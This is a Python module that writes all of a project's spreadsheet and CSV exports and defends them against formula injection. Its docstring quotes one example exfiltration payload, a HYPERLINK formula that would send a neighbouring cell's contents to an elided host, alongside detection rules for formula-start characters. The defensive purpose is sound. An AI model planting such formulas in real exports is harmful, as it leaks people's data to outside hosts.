"""The one .xlsx writer of every export: people's text is always written as text.

Every spreadsheet we hand out (the roster and its import template, 参学情况, the 三会一课
台账, contest results, and whatever comes next) is written through `XlsxWriter`; nothing
else in the project creates an openpyxl `Workbook` for output. A test greps for that.

    book = XlsxWriter()
    sheet = book.sheet("会议记录", ["日期", "会议主题"], widths=[12, 28])
    sheet.append([day, meeting.topic])
    return book.response("台账.xlsx")

Formula injection, and why there is no apostrophe in the value
--------------------------------------------------------------
openpyxl turns any str that starts with "=" into a formula cell, and "#N/A" into an error
cell; a recorder's agenda `=HYPERLINK("http://…/?d="&D3, "点此")` would become a live link
that sends the neighbouring cell away. Here every str is written as a string cell
(`data_type "s"`, an inline string, never an `<f>` element), whatever it starts with.
Excel, WPS and LibreOffice never evaluate a string cell when they open a file, so the text
reaches the reader exactly as it was typed.

What is left is the moment a person edits such a cell (F2, Enter) and the program parses
the typing again. OWASP's advice for CSV, prefixing `'` to values that start with
= + - @ tab or CR, exists because CSV has no types; in an .xlsx the apostrophe would not be
hidden: it would become part of the text (a roster exported and imported again would
gain an apostrophe in every such field, and minutes whose lines start with "-" would be
disfigured). The .xlsx way of saying "the user typed an apostrophe before this" is the
cell style's `quotePrefix`: we set it on every text cell whose first character (or first
after leading spaces, tabs or line breaks) is = + - @ or their full-width forms, and we
give every text cell the "@" (文本) number format. Excel and WPS then show the text as
text and keep it text when it is edited; LibreOffice keeps text cells as text on edit.
The value itself is never changed, apart from what an .xlsx cannot hold: control
characters other than tab and line breaks, lone surrogates and U+FFFE/U+FFFF are dropped
(rather than making the export fail), and a carriage return is written as a line feed
(XML readers, Excel's included, turn a stored CR into LF anyway).

Numbers, Decimals, booleans, dates and datetimes stay typed (aware datetimes are written
in local time), so sums and sorting work in the spreadsheet.

The writer streams (openpyxl's write-only mode) into a spooled temporary file, so a
county's 50,000-row roster does not sit in memory; `streaming_response()` hands
that file to the client without reading it back.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
import tempfile
from collections.abc import Iterable, Mapping, Sequence
from decimal import Decimal
from typing import IO, Any
from urllib.parse import quote

from django.http import FileResponse, HttpResponse
from django.utils import timezone
from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell.cell import Cell
from openpyxl.comments import Comment
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.datavalidation import DataValidation

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
TEXT_FORMAT = "@"
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
MAX_CELL_CHARS = 32767  # Excel's limit for one cell
HEADER_FONT = Font(bold=True)
HEADER_FILL = PatternFill("solid", fgColor="F3E3E3")
WRAP = Alignment(wrap_text=True, vertical="top")

# What a spreadsheet program would read as the start of a formula when the cell is edited.
FORMULA_STARTS = frozenset("=+-@＝＋－＠")
LEADING_BLANKS = " \t\r\n\u3000"
# Characters XML 1.0 (and so an .xlsx) cannot carry: C0 controls other than tab, LF, CR;
# lone surrogates; the two non-characters at the end of the BMP.
NOT_IN_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
CARRIAGE_RETURN = re.compile("\r\n?")
SHEET_TITLE_FORBIDDEN = re.compile(r"[\\/*?:\[\]]")

Value = str | Promise | int | float | Decimal | bool | datetime.date | datetime.datetime | None


def looks_like_formula(text: str) -> bool:
    """True when a spreadsheet program would parse `text` as a formula if it were typed."""
    if not text:
        return False
    if text[0] in "\t\r\n":
        return True
    stripped = text.lstrip(LEADING_BLANKS)
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def is_number(text: str) -> bool:
    """True when `text` reads as a number ("-3", "1.5"): written as is, never quoted."""
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_text(rows: Iterable[Sequence[object]]) -> str:
    """The one CSV writer: CSV has no types, so a cell a spreadsheet would run as a formula
    ("=…", "+…", "@…", a leading tab; numbers such as -3 stay numbers) gets a leading quote
    (OWASP's advice), the same rule the .xlsx writer applies by typing cells as text."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow(
            [
                "'" + text if looks_like_formula(text) and not is_number(text) else text
                for text in ("" if cell is None else str(cell) for cell in row)
            ]
        )
    return out.getvalue()


def sheet_text(value: str) -> str:
    """`value` as an .xlsx cell can hold it: characters XML cannot carry are dropped, a
    carriage return becomes a line feed (an XML reader would turn it into one anyway), and
    the text is cut at Excel's 32,767 characters."""
    return CARRIAGE_RETURN.sub("\n", NOT_IN_XML.sub("", value))[:MAX_CELL_CHARS]


def sheet_title(value: str, taken: Iterable[str] = ()) -> str:
    """A valid, unique worksheet name: no \\ / * ? : [ ], at most 31 characters."""
    base = SHEET_TITLE_FORBIDDEN.sub("_", sheet_text(value)).strip("' ") or "Sheet"
    base = base[:31]
    used = {t.lower() for t in taken}
    title, n = base, 1
    while title.lower() in used:
        n += 1
        suffix = f"({n})"
        title = base[: 31 - len(suffix)] + suffix
    return title


class XlsxSheet:
    """One worksheet: optional title lines, a bold header row (frozen), then data rows."""

    def __init__(
        self,
        book: XlsxWriter,
        worksheet: Any,  # openpyxl's write-only worksheet (its stubs lack most of it)
        headers: Sequence[str],
        *,
        widths: Sequence[float],
        preamble: Sequence[str],
        title_size: int,
        wrap: Iterable[int],
        notes: Mapping[int, str],
        choices: Mapping[int, Sequence[str]],
        formats: Mapping[int, str],
        max_rows: int,
    ) -> None:
        self._book = book
        self._ws = worksheet
        self._wrap = frozenset(wrap)
        self.rows = 0
        # Sheet properties go into the XML before the first row: set them all now.
        for index, width in enumerate(widths, start=1):
            worksheet.column_dimensions[get_column_letter(index)].width = width
        for index, number_format in formats.items():
            worksheet.column_dimensions[get_column_letter(index)].number_format = number_format
        header_row = len(preamble) + 1
        if headers:
            worksheet.freeze_panes = f"A{header_row + 1}"
        for index, options in choices.items():
            worksheet.data_validations.append(self._choice(index, options, header_row, max_rows))
        for number, line in enumerate(preamble):
            font = Font(bold=True, size=title_size) if number == 0 else None
            self._write([self._cell(line, font=font)] if line else [])
        if headers:
            cells = []
            for index, title in enumerate(headers, start=1):
                cell = self._cell(title, font=HEADER_FONT, fill=HEADER_FILL)
                if index in notes:
                    cell.comment = Comment(sheet_text(notes[index]), "先锋")
                cells.append(cell)
            self._write(cells)

    @staticmethod
    def _choice(index: int, options: Sequence[str], header_row: int, max_rows: int) -> Any:
        # The list is a formula by design; it is built only from our own constants.
        for option in options:
            if any(ch in option for ch in ',"') or looks_like_formula(option):
                raise ValueError(f"unsafe list option {option!r}")
        letter = get_column_letter(index)
        validation = DataValidation(
            type="list", formula1='"' + ",".join(options) + '"', allow_blank=True
        )
        validation.add(f"{letter}{header_row + 1}:{letter}{header_row + max_rows}")
        return validation

    def _cell(
        self,
        value: Value,
        *,
        font: Font | None = None,
        fill: PatternFill | None = None,
        wrap: bool = False,
    ) -> Cell:
        cell = Cell(self._ws, row=1, column=1)  # placed by append
        if isinstance(value, Promise):  # a lazily translated label
            value = str(value)
        if isinstance(value, str):
            text = sheet_text(value)
            cell.value = text
            # openpyxl has just made "=…" a formula and "#N/A" an error cell: text it is.
            cell.data_type = "s"
            cell.number_format = TEXT_FORMAT
            if looks_like_formula(text):
                cell.quotePrefix = True
        elif isinstance(value, datetime.datetime):
            if timezone.is_aware(value):
                value = timezone.localtime(value).replace(tzinfo=None)
            cell.value = value
            cell.number_format = DATETIME_FORMAT
        elif isinstance(value, datetime.date):
            cell.value = value
            cell.number_format = DATE_FORMAT
        elif isinstance(value, Decimal):
            cell.value = float(value)
        elif value is None or isinstance(value, int | float):  # bool is an int
            cell.value = value
        else:
            raise TypeError(f"cannot write {type(value).__name__} to a spreadsheet")
        if font is not None:
            cell.font = font
        if fill is not None:
            cell.fill = fill
        if wrap:
            cell.alignment = WRAP
        return cell

    def _write(self, cells: list[Cell]) -> None:
        self._ws.append(cells)

    def append(self, values: Sequence[Value], *, fills: Mapping[int, str] | None = None) -> None:
        """One data row; `fills` colours cells by column number (1 = A), e.g. a status."""
        fills = fills or {}
        self._write(
            [
                self._cell(
                    value,
                    fill=PatternFill("solid", fgColor=fills[index]) if index in fills else None,
                    wrap=index in self._wrap,
                )
                for index, value in enumerate(values, start=1)
            ]
        )
        self.rows += 1


class XlsxWriter:
    """A workbook of one or more `XlsxSheet`s, saved once; see the module docstring."""

    def __init__(self) -> None:
        self._book = Workbook(write_only=True)
        self._titles: list[str] = []
        self._saved: IO[bytes] | None = None

    def sheet(
        self,
        title: str,
        headers: Sequence[str] = (),
        *,
        widths: Sequence[float] = (),
        preamble: Sequence[str] = (),
        title_size: int = 13,
        wrap: Iterable[int] = (),
        notes: Mapping[int, str] | None = None,
        choices: Mapping[int, Sequence[str]] | None = None,
        formats: Mapping[int, str] | None = None,
        max_rows: int = 20000,
    ) -> XlsxSheet:
        """A new worksheet. `preamble` lines come first (the first in bold), then the
        header row, which stays visible when scrolling. Columns are numbered from 1:
        `wrap` wraps their data cells, `notes` puts a comment on their header, `choices`
        offers a drop-down list in the next `max_rows` rows, `formats` sets the number
        format of cells typed into the column later ("@" keeps typed ID numbers text)."""
        name = sheet_title(title, self._titles)
        self._titles.append(name)
        worksheet = self._book.create_sheet(name)
        return XlsxSheet(
            self,
            worksheet,
            headers,
            widths=widths,
            preamble=preamble,
            title_size=title_size,
            wrap=wrap,
            notes=notes or {},
            choices=choices or {},
            formats=formats or {},
            max_rows=max_rows,
        )

    def save(self) -> IO[bytes]:
        """The finished workbook as a file positioned at its start."""
        if self._saved is None:
            if not self._titles:
                self.sheet("Sheet1")
            # Small exports stay in memory, large ones (a county's roster) go to disk.
            handle = tempfile.SpooledTemporaryFile(max_size=8 * 1024 * 1024)  # noqa: SIM115
            self._book.save(handle)
            self._saved = handle
        self._saved.seek(0)
        return self._saved

    def to_bytes(self) -> bytes:
        return self.save().read()

    def _disposition(self, filename: str, ascii_filename: str | None) -> str:
        fallback = ascii_filename or (filename if filename.isascii() else "export.xlsx")
        return f"attachment; filename=\"{fallback}\"; filename*=UTF-8''{quote(filename, safe='')}"

    def response(self, filename: str, *, ascii_filename: str | None = None) -> HttpResponse:
        """An attachment download. `filename` may be Chinese; `ascii_filename` is what
        old clients that ignore `filename*` save it as."""
        response = HttpResponse(self.to_bytes(), content_type=XLSX_CONTENT_TYPE)
        response["Content-Disposition"] = self._disposition(filename, ascii_filename)
        return response

    def streaming_response(
        self, filename: str, *, ascii_filename: str | None = None
    ) -> FileResponse:
        """As `response`, streamed from the temporary file (large exports)."""
        # FileResponse closes the file when the response is done.
        response = FileResponse(self.save(), content_type=XLSX_CONTENT_TYPE)
        response["Content-Disposition"] = self._disposition(filename, ascii_filename)
        return response
